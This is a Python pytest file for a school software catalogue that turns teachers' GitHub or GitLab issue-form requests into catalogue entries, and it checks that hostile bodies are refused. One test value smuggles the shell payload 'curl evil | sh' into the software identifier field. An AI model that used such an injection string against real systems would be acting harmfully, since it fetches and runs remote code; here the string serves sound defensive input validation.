"""A teacher's request from an issue form (no git): the forms' headings are the parser's, the body is
hostile input, and a filled form becomes the same card and row as ``catalogue.request`` with options."""

from __future__ import annotations

import datetime as dt
import re

import pytest
import yaml

from socle.catalogue import issue, request
from socle.core.errors import SocleError
from socle.core.paths import ROOT

ANSWERS = {
    "Logiciel (identifiant)": "kstars",
    "Discipline": "svt",
    "Fonction (usage pédagogique)": "astronomie",
    "Niveaux": "lycee-gt",
    "Justification pédagogique": "Observer le ciel et les mouvements de la Terre\nen classe de seconde",
    "Votre nom": "Claire Muller",
    "UAI de votre établissement": "0671234C",
    "Nom du logiciel": "KStars",
    "Éditeur": "KDE",
    "Site officiel": "https://apps.kde.org/kstars/",
    "Résumé en une phrase": "Planétarium et outils d'observation du ciel",
    "Paquet Debian": "kstars",
    "Licence": "GPL-2.0-or-later",
}


def github_body(answers: dict[str, str]) -> str:
    """What GitHub writes for an issue form: ### label, a blank line, the answer."""
    return "\n\n".join(f"### {label}\n\n{value or '_No response_'}" for label, value in answers.items())


def gitlab_body(answers: dict[str, str]) -> str:
    """The GitLab template, filled in under its headings (its comments and quick action kept)."""
    template = (ROOT / ".gitlab" / "issue_templates" / "Demande de logiciel.md").read_text()
    for label, value in answers.items():
        template = template.replace(f"### {label}\n", f"### {label}\n\n{value}\n", 1)
    return template


def test_the_forms_ask_for_what_the_parser_reads():
    form = yaml.safe_load((ROOT / ".github" / "ISSUE_TEMPLATE" / "demande-logiciel.yml").read_text())
    github = {item["attributes"]["label"] for item in form["body"] if item["type"] != "markdown"}
    gitlab = set(re.findall(r"^### (.+)$", (ROOT / ".gitlab" / "issue_templates" / "Demande de logiciel.md")
                            .read_text(), re.MULTILINE))  # fmt: skip
    assert github == gitlab == set(issue.FIELDS)
    assert set(issue.FIELDS.values()) == set(request.FIELDS) | set(request.CARD_FIELDS) | {"levels"}


@pytest.mark.parametrize("render", [github_body, gitlab_body])
def test_a_filled_form_becomes_the_card_and_the_row(render, catalogue_copy):
    values = issue.fields(render(ANSWERS))
    assert values["rationale"] == "Observer le ciel et les mouvements de la Terre en classe de seconde"
    written = request.request(values, root=catalogue_copy, today=dt.date(2026, 11, 24))
    assert sorted(p.name for p in written) == ["kstars.yaml", "svt.yaml"]
    row = yaml.safe_load((catalogue_copy / "disciplines" / "svt.yaml").read_text())["choices"][-1]
    assert row["software"] == "kstars" and row["levels"] == ["lycee-gt"]
    assert row["requested_by"]["uai"] == "0671234C"


def test_an_empty_answer_is_not_a_value():
    values = issue.fields(github_body({**ANSWERS, "Niveaux": "", "Licence": ""}))
    assert "levels" not in values and "licence" not in values
    assert issue.fields(github_body({"Niveaux": "lycee-gt, college ,"}))["levels"] == "lycee-gt,college"


def test_hostile_bodies_are_refused_with_their_place(catalogue_copy):
    with pytest.raises(SocleError, match=r"issue:5: the field « Discipline » appears twice"):
        issue.fields("### Discipline\n\nsvt\n\n### Discipline\n\nmaths\n")
    with pytest.raises(SocleError, match="longer than"):
        issue.fields("### Discipline\n\n" + "x" * 30_000)
    with pytest.raises(SocleError, match="no field of the request form"):
        issue.fields("Bonjour, pouvez-vous installer GeoGebra ?")
    # a value is data: a shell or YAML payload never becomes a file name or an identifier
    values = issue.fields(github_body({**ANSWERS, "Logiciel (identifiant)": "kstars; curl evil | sh"}))
    with pytest.raises(SocleError, match=re.escape("--software 'kstars; curl evil | sh' is not valid")):
        request.request(values, root=catalogue_copy, today=dt.date(2026, 11, 24))


def test_a_new_software_without_its_card_fields_names_them_as_the_form_does(catalogue_copy):
    answers = {k: v for k, v in ANSWERS.items() if k not in ("Éditeur", "Licence")}
    form = {key: label for label, key in issue.FIELDS.items()}
    with pytest.raises(SocleError, match="missing in the form: « Éditeur », « Licence »"):
        request.request(issue.fields(github_body(answers)), root=catalogue_copy, form=form)
